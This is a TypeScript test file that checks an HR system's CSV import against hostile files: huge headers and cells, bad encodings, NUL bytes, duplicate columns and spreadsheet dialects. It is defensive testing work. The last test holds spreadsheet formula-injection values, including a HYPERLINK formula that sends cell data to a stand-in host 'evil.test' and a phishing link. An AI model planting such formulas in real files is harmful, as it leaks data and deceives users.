// Hostile CSV files at the HRM's "Import" (tests/fixtures/hostile/csv): each is refused with words that say what to do,
// at the file field, or read as plain text; either way no import is stored and no user changes until the admin applies.
import { readFileSync } from 'node:fs';
import { describe, expect } from 'vitest';
import type { ImportPreview } from '../../src/contracts/hrm';
import type { ProblemBody } from '../../src/contracts/wire';
import type { TestBrowser, TestWorld } from '../support/harness';
import { it } from '../support/world-test';
import { body, expectProblem, HRM, signIn } from '../mocks/hrm/support';
import { hugeCell, longCell, millionColumnHeader } from '../fixtures/hostile/csv/generators';

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`../fixtures/hostile/csv/${name}`, import.meta.url)));

let karin: TestBrowser;
it.beforeEach(async ({ world }) => {
  karin = await signIn(world, 'karin');
});

function post(world: TestWorld, file: string | Uint8Array<ArrayBuffer>): Promise<Response> {
  return world.workspace.network.fetch(
    new Request(`${HRM}/api/imports?fileName=users.csv`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body: file }),
    {
      initiator: 'browser:karin',
      jar: karin.jar,
    },
  );
}

/** What an admin sees of the HRM: its imports and every user's Connect email (the export). */
async function hrmState(): Promise<{ imports: unknown; users: string }> {
  const imports = await body<ImportPreview[]>(await karin.api(`${HRM}/api/imports`));
  const users = await (await karin.api(`${HRM}/api/users/export?fields=loginId,connectEmail,state`)).text();
  return { imports, users };
}

async function refused(world: TestWorld, file: string | Uint8Array<ArrayBuffer>, status: number, code: string): Promise<ProblemBody> {
  const before = await hrmState();
  const response = await post(world, file);
  const problem = await expectProblem(response, status, code, 'file');
  expect(await hrmState()).toEqual(before);
  return problem;
}

describe('a hostile CSV file at POST /api/imports', () => {
  it('a header of a million columns is refused with a short message, and nothing is stored', async ({ world }) => {
    const problem = await refused(world, millionColumnHeader(), 422, 'import_unreadable');
    expect(problem.message).toBe(
      'The header row has 1,000,000 columns; an import file can have at most 100. Keep the “User ID” and “Connect email” columns.',
    );
  });

  it('a 20 MB cell is refused as a file too large, never echoed back', async ({ world }) => {
    const response = await post(world, hugeCell());
    expect((await response.clone().text()).length).toBeLessThan(500);
    const problem = await refused(world, hugeCell(), 413, 'import_too_large');
    expect(problem.message).toBe('The file is 20 MB; an import file can be at most 16 MB.');
  });

  it('a cell longer than 1,000 characters in a small file is refused, naming its line and column', async ({ world }) => {
    const problem = await refused(world, longCell(5_000), 422, 'import_unreadable');
    expect(problem.message).toBe(
      'Line 3, column “Connect email”, has 5,000 characters; a cell can have at most 1,000. Nothing was imported.',
    );
  });

  it('a file that is not UTF-8 (Windows-1252 from Excel) is refused, naming the line', async ({ world }) => {
    const problem = await refused(world, fixture('invalid-utf8.csv'), 422, 'import_unreadable');
    expect(problem.message).toBe(
      'The file is not UTF-8 text (line 3): it may be saved in another encoding. Save it from the spreadsheet as “CSV UTF-8” and try again.',
    );
  });

  it('NUL characters are refused, naming the line', async ({ world }) => {
    const problem = await refused(world, fixture('nul-bytes.csv'), 422, 'import_unreadable');
    expect(problem.message).toBe(
      'The file contains NUL characters (line 3): it may be saved as “Unicode text” (UTF-16) or not be a CSV file. Save it from the spreadsheet as “CSV UTF-8” and try again.',
    );
  });

  it('two “Connect email” columns are refused, naming both', async ({ world }) => {
    const problem = await refused(world, fixture('duplicate-headers.csv'), 422, 'import_unreadable');
    expect(problem.message).toBe(
      'The file has 2 “Connect email” columns: “Connect email” (column 2), “Connect Email” (column 4). Keep one.',
    );
  });

  it('a missing column lists at most ten of the file’s columns, each cut short', async ({ world }) => {
    const header = Array.from({ length: 50 }, (_, i) => `${'x'.repeat(100)}${i}`).join(',');
    const problem = await refused(world, `${header}\n${'1,'.repeat(49)}1\n`, 422, 'import_unreadable');
    expect(problem.message.length).toBeLessThan(1000);
    expect(problem.message).toMatch(
      /^The file has no “User ID” \(or “Employee number”\) column\. Its columns: “x{60}…”, .* and 40 more\.$/,
    );
  });
});

describe('CSV files a spreadsheet really writes', () => {
  it('Swedish Excel (a BOM, semicolons, CRLF) is read as it is meant', async ({ world }) => {
    const response = await post(world, fixture('bom-semicolons.csv'));
    expect(response.status).toBe(201);
    const preview = await body<ImportPreview>(response);
    expect(preview.columns).toEqual({ user: 'User ID', connectEmail: 'Connect email' });
    expect(preview.rows.map((r) => [r.line, r.userRef, r.after, r.outcome])).toEqual([
      [2, '10003', 'johan.ek@company.se', 'update'],
      [3, '10007', 'lena.holm@company.se', 'update'],
    ]);
  });

  it('mixed line endings (CRLF, LF, CR) give one row per line', async ({ world }) => {
    const preview = await body<ImportPreview>(await post(world, fixture('mixed-line-endings.csv')));
    expect(preview.rows.map((r) => [r.line, r.userRef, r.after, r.outcome])).toEqual([
      [2, '10003', 'johan.ek@company.se', 'update'],
      [3, '10007', 'lena.holm@company.se', 'update'],
      [4, '10008', 'oskar.lund@company.se', 'update'],
    ]);
  });

  it('formulas are plain text: rows with them are rejected, shown as written, and change no user', async ({ world }) => {
    const before = (await hrmState()).users;
    const response = await post(world, fixture('formula-injection.csv'));
    expect(response.status).toBe(201);
    const preview = await body<ImportPreview>(response);
    expect(preview.counts).toEqual({ update: 0, unchanged: 0, rejected: 3, total: 3 });
    expect(preview.rows.map((r) => [r.userRef, r.reason])).toEqual([
      ['=HYPERLINK("https://evil.test/steal?d="&A1,"Click me")', 'unknown_user'],
      ['10003', 'invalid_email'],
      ['+10007', 'unknown_user'],
    ]);
    expect(preview.rows[1]!.after).toBe('=HYPERLINK("https://evil.test/phish","Verify")');
    expect((await karin.api(`${HRM}/api/imports/${preview.id}/apply`, { method: 'POST' })).status).toBe(200);
    expect((await hrmState()).users).toBe(before);
  });
});
